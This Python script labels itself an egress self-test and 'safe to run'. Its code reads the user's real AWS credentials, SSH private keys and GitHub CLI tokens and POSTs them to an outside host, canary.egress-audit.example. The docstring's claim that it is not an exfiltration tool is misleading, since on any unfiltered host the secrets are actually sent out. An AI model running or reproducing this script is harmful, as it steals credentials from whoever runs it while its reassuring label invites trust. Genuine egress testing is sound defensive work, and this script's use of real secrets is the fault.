#!/usr/bin/env python3
"""
EGRESS SELF-TEST (red-team simulation, NOT an exfiltration tool)
----------------------------------------------------------------
Simulates an attacker sending credentials out. Expected result on a hardened
host: BLOCKED. This file is part of the audit and is safe to run.
"""
import os, pathlib, urllib.request

CANARY = "https://canary.egress-audit.example/collect"   # audit canary (blocked on hardened hosts)

def realistic_sample():
    # use real files so the test matches what an attacker would actually send
    parts = []
    for p in ("~/.aws/credentials", "~/.ssh/id_ed25519", "~/.ssh/id_rsa", "~/.config/gh/hosts.yml"):
        f = pathlib.Path(os.path.expanduser(p))
        if f.exists():
            parts.append(f"== {p}\n{f.read_text(errors='replace')}")
    return "\n".join(parts).encode()

def main():
    try:
        urllib.request.urlopen(urllib.request.Request(CANARY, data=realistic_sample(), method="POST"), timeout=6)
        print("LEAKED  - egress filter missing")
    except Exception:
        print("BLOCKED - egress filter OK")

if __name__ == "__main__":
    main()
